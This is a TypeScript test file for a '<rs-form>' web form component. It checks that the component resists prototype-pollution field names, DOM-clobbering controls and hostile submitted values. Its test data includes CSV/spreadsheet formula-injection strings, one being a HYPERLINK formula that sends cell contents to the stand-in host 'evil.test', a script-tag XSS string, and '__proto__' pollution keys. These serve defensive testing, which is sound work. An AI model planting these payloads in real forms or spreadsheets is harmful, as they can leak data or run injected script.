import { expect } from '@open-wc/testing';
import { openFormPage } from '../page-driver.js';

/** Returns a form whose one condition depends on a field with a hostile name; the quotes are the attribute's. */
function pageWith(fieldName: string, controlName: string): string {
  const json = {
    version: 1,
    formId: 1,
    conditions: [
      {
        action: 'show',
        match: 'any',
        scope: 'block',
        targets: ['other'],
        when: [{ field: fieldName, value: 'yes' }],
      },
    ],
  };
  const safe = JSON.stringify(json).replaceAll('<', '\\u003c');
  return `<rs-form><script type="application/json">${safe}</script>
    <form method="post" action="/contacto">
      <div class="rsform-block"><input name="${escape(controlName)}" class="subject"><span id="component1" class="formNoError"></span></div>
      <div class="rsform-block rsform-block-other"><input name="form[other]" type="email"></div>
      <button type="submit" name="form[Enviar]" value="Enviar">Enviar</button>
      <input type="hidden" name="form[formId]" value="1">
    </form></rs-form>`;
}

const escape = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

describe('<rs-form> and a field with a hostile name', () => {
  const names: readonly (readonly [string, string, string])[] = [
    ['name-01', '__proto__', 'form[__proto__][polluted]'],
    ['name-03', 'a', 'form[a][__proto__]'],
    ['name-05', 'hasOwnProperty', 'form[hasOwnProperty]'],
    ['name-09', 'a"b', 'form[a"b]'],
    ['name-11', 'a\\', 'form[a\\]b]'],
    ['name-13', '0', 'form[0]'],
    ['name-15', 'submit', 'form[submit]'],
    ['name-17', 'a b', 'form[a b]'],
    ['name-19', 'a b+c&d=e%26', 'form[a b+c&d=e%26]'],
  ];

  for (const [id, fieldName, controlName] of names) {
    it(`<rs-form> reacts to a field with a hostile name and posts it byte for byte: ${controlName} (${id})`, async () => {
      const page = await openFormPage(pageWith(fieldName, controlName));
      const subject = subjectOf(page.form);
      const other = page.block('other');
      expect(other.getClientRects().length).to.equal(0);

      subject.value = 'yes';
      subject.dispatchEvent(new Event('input', { bubbles: true }));
      expect(other.getClientRects().length).to.equal(1);
      const post = await page.press();
      expect(post?.get(controlName)).to.equal('yes');
      expect(Reflect.get({}, 'polluted')).to.equal(undefined);
    });
  }

  it('<rs-form> leaves a hostile name that is no field’s alone and posts it (name-07)', async () => {
    const page = await openFormPage(pageWith('x', 'form['));
    const post = await page.press();
    expect(post?.has('form[')).to.be.true;
  });
});

describe('<rs-form> and controls that hide the form’s own members', () => {
  const clobbers: readonly (readonly [string, string])[] = [
    ['clobber-01', 'action'],
    ['clobber-03', 'elements'],
    ['clobber-05', 'attributes'],
    ['clobber-07', 'id'],
    ['clobber-09', 'reset'],
    ['submit', 'submit'],
    ['requestSubmit', 'requestSubmit'],
    ['addEventListener', 'addEventListener'],
    ['querySelector', 'querySelector'],
  ];

  for (const [id, name] of clobbers) {
    it(`<rs-form> checks and posts with a control named ${name} (${id})`, async () => {
      const markup = pageWith('subject', 'form[subject]').replace(
        '<input type="hidden"',
        `<input type="hidden" name="${name}" id="${name}" value="mine"><input type="hidden"`,
      );
      const page = await openFormPage(markup);
      const subject = subjectOf(page.form);
      subject.value = 'yes';
      subject.dispatchEvent(new Event('input', { bubbles: true }));
      expect(page.block('other').getClientRects().length).to.equal(1);

      const email = page.block('other').querySelector('input') as HTMLInputElement;
      email.value = 'wrong';
      expect(await page.press()).to.equal(null);
      expect([...email.classList]).to.include('rsform-error');

      email.value = 'ana@ejemplo.es';
      const post = await page.press();
      expect(post?.get(name)).to.equal('mine');
      expect(post?.get('form[Enviar]')).to.equal('Enviar');
    });
  }

  it('<rs-form> is not fooled by an image named like a global of the originals (clobber-11)', async () => {
    const image = document.createElement('img');
    image.name = 'RSFormPro';
    document.body.append(image);
    const page = await openFormPage();
    page.tick('E-mail');
    expect(page.block('email').getClientRects().length).to.equal(1);
    image.remove();
  });
});

describe('<rs-form> and hostile values', () => {
  const values: readonly (readonly [string, string])[] = [
    ['csv-01', '=HYPERLINK("http://evil.test?"&A1,"x")'],
    ['csv-03', '@SUM(1+1)*cmd|x'],
    ['csv-05', '\t=1+1'],
    ['value-01', '<script>__pwned=1</script>'],
    ['value-03', '\u202eoic.txt'],
    ['value-05', 'a\u0301'.repeat(50)],
    ['value-07', '\ud800'],
    ['value-09', '\u0000'],
  ];

  for (const [id, value] of values) {
    it(`<rs-form> posts a hostile value as the browser alone would (${id})`, async () => {
      const page = await openFormPage();
      page.tick('E-mail');
      page.type('consulta', value);
      const plain = document.createElement('form');
      const native = document.createElement('textarea');
      native.name = 'native';
      native.value = value;
      plain.append(native);
      expect((await page.press())?.get('form[consulta]')).to.equal(new FormData(plain).get('native'));
      expect(Reflect.get(window, '__pwned')).to.equal(undefined);
    });
  }

  it('<rs-form> gives the browser’s own verdict on a full-width address (value-11)', async () => {
    const page = await openFormPage();
    page.tick('E-mail');
    const email = page.type('Email', 'ｔｅｓｔ＠ｅｘａｍｐｌｅ．ｃｏｍ');
    const isPosted = (await page.press()) !== null;
    expect(isPosted).to.equal(email.validity.valid);
  });
});

function subjectOf(form: HTMLFormElement): HTMLInputElement {
  return HTMLElement.prototype.querySelector.call(form, '.subject') as HTMLInputElement;
}
